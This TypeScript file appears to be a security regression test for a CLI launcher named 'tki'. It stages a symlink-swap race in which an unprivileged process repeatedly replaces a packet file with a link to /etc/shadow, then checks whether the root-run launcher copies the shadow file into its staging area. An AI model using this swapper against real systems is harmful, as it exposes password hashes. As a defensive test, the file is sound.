import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, cpSync, lstatSync, mkdirSync, mkdtempSync, openSync, readSync, closeSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { repoRoot } from '../run-driver.js';

/** Every regular file under `dir` whose first bytes are `root:` (an /etc/shadow copy). */
function shadowCopies(dir: string): string[] {
  const found: string[] = [];
  const walk = (d: string): void => {
    let names: string[] = [];
    try { names = readdirSync(d); } catch { return; }
    for (const n of names) {
      const p = path.join(d, n);
      try {
        const st = lstatSync(p);
        if (st.isDirectory()) walk(p);
        else if (st.isFile()) { const fd = openSync(p, 'r'); const b = Buffer.alloc(5); readSync(fd, b, 0, 5, 0); closeSync(fd); if (b.toString() === 'root:') found.push(p); }
      } catch { /* gone meanwhile */ }
    }
  };
  walk(dir);
  return found;
}

/**
 * TOCTOU between the launcher's lstat and its copy: the packet's owner (uid 65534, the attacker) swaps
 * a 0600 content file with a symlink to /etc/shadow in a loop while a root operator runs `tki run`
 * `attempts` times; the launcher's stage (in a private TMPDIR) is polled for a copy of /etc/shadow.
 */
export async function stageSwapRace(attempts: number): Promise<{ runs: number; stagedSeen: number; shadowCopies: string[] }> {
  const base = mkdtempSync(path.join(tmpdir(), 'rt3-race-'));
  chmodSync(base, 0o755);
  const packet = path.join(base, 'pk');
  const privateTmp = path.join(base, 'tmp');
  mkdirSync(privateTmp, { mode: 0o755 });
  cpSync(path.join(repoRoot, 'fixtures/packets/fix7-a'), packet, { recursive: true });
  spawnSync('chown', ['-R', '65534:65534', packet]);
  spawnSync('chmod', ['-R', 'go-rwx', packet]);
  const victim = path.join(packet, 'content', readdirSync(path.join(packet, 'content')).sort()[0] ?? '');
  const swapper = `import os\nv=${JSON.stringify(victim)}; d=os.path.dirname(v); f=d+"/.f"; l=d+"/.l"\ndata=open(v,"rb").read()\nwhile True:\n    try:\n        os.symlink("/etc/shadow", l); os.rename(l, v)\n        h=open(f,"wb"); h.write(data); h.close(); os.chmod(f,0o600); os.rename(f, v)\n    except Exception: pass\n`;
  const attacker = spawn('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', 'python3', '-c', swapper], { stdio: 'ignore' });
  const found = new Set<string>();
  const staged = new Set<string>();
  const poll = setInterval(() => {
    for (const p of shadowCopies(privateTmp)) found.add(p);
    for (const e of readdirSync(privateTmp)) staged.add(e);
  }, 5);
  let runs = 0;
  try {
    for (; runs < attempts && found.size === 0; runs++) {
      await new Promise((resolve) => {
        const run = spawn(process.execPath, [path.join(repoRoot, 'dist/cli/tki.js'), 'run', packet, '--out', path.join(base, `out${runs}`)], { stdio: 'ignore', env: { ...process.env, TMPDIR: privateTmp } });
        run.on('exit', resolve);
      });
    }
  } finally {
    clearInterval(poll);
    attacker.kill('SIGKILL');
    rmSync(base, { recursive: true, force: true });
  }
  return { runs, stagedSeen: staged.size, shadowCopies: [...found] };
}
